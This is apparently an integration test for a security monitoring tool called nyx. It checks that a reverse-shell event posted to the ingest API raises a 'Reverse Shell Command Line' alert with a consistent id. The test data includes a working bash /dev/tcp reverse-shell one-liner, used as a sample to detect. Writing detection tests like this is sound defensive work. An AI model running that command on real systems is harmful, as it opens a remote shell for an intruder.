import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { runNyx } from '../support/cli.ts';
import { testElasticUrl, uniqueNamespace } from '../support/elastic.ts';
import { loadAlertPolicy } from '../../src/alerts/index.ts';
import { RuleWatcher } from '../../src/detection/watch/index.ts';
import { packRules } from '../alerts/support.ts';
import { alertsIn, bootstrapped, eventually, startNyx, watchSettings, type NyxProcess } from './support.ts';

const env = { ELASTICSEARCH_URL: testElasticUrl(), NYX__SERVE__AUTH_CACHE_MS: '0' };
let serve: NyxProcess;
let url: string;

before(async () => {
  await bootstrapped();
  serve = startNyx(['serve', '--port', '0'], env);
  url = (await serve.waitFor(/ingest API on (http:\/\/\S+)/))[1]!;
});
after(async () => {
  await serve?.stop();
  await (await bootstrapped()).client.close();
});

test('an event posted to a real `nyx serve` raises its alert on the stream path, under the id the watcher computes for it', async () => {
  assert.match(serve.stderr(), /stream detection: \d+ Sigma rules/);
  const { client } = await bootstrapped();
  const ns = uniqueNamespace('ws');
  const token = await runNyx(['agents', 'token', 'create', '--namespace', ns, '--ttl', '1h'], env);
  assert.equal(token.code, 0, token.stderr);
  const enrolled = await fetch(`${url}/api/agents/enroll`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ token: token.stdout.trim(), hostname: 'web-07', os: 'linux 6.1', ip: '192.0.2.7', version: '0.1.0' }) });
  assert.equal(enrolled.status, 201);
  const { agent_key } = (await enrolled.json()) as { agent_key: string };
  const ts = new Date(Date.now() - 30_000).toISOString();
  const res = await fetch(`${url}/api/ingest`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-agent-key': agent_key },
    body: JSON.stringify([
      { ts, category: 'commandline', host: 'web-07', user: 'www-data', cmd: 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', pid: 4242, seq: 1 },
      { ts, category: 'commandline', host: 'web-07', user: 'www-data', cmd: 'ls -la /var/www', pid: 4243, seq: 2 },
    ]),
  });
  assert.equal(((await res.json()) as { stored: number }).stored, 2);

  const alerts = await eventually(async () => {
    const found = await alertsIn(client, ns);
    return found.length ? found : undefined;
  }, 'the stream alert');
  assert.equal(alerts.length, 1, 'one alert: the reverse shell, not the ls');
  const alert = alerts[0]!;
  const src = alert._source as { rule: { name: string }; host: { name: string }; nyx: { alert: { entity: string; evidence: { indices: string[]; event_ids: string[] } } }; threat: { technique: { id: string[] } } };
  assert.equal(src.rule.name, 'Reverse Shell Command Line');
  assert.equal(src.host.name, 'web-07');
  assert.deepEqual(src.nyx.alert.evidence.indices, [`logs-endpoint-${ns}`]);
  // The evidence names the stored event: the agent's id + sequence 1 (the reverse shell).
  assert.equal(src.nyx.alert.evidence.event_ids.length, 1);
  await client.indices.refresh({ index: `logs-endpoint-${ns}` });
  const evidence = await client.search({ index: `logs-endpoint-${ns}`, query: { ids: { values: src.nyx.alert.evidence.event_ids } } });
  assert.match(String((evidence.hits.hits[0]?._source as { process?: { command_line?: string } })?.process?.command_line), /dev\/tcp/);
  assert.ok(src.threat.technique.id.length > 0);

  // The query path over the same stored event (once searchable): the same id, found already written.
  await client.indices.refresh({ index: `logs-endpoint-${ns}` });
  const watcher = new RuleWatcher({ client, rules: packRules(), policy: loadAlertPolicy(), settings: watchSettings(ns, { namespaces: [ns], shards: 1 }), defaultNamespace: 'default' });
  const reports = await watcher.runCycle({ force: true });
  await watcher.stop();
  const fired = reports.filter((r) => r.alertIds.length);
  assert.deepEqual(fired.flatMap((r) => r.alertIds), [alert._id]);
  assert.equal(fired[0]!.created, 0);
  assert.equal(fired[0]!.duplicates, 1);
  assert.equal((await alertsIn(client, ns)).length, 1);
});
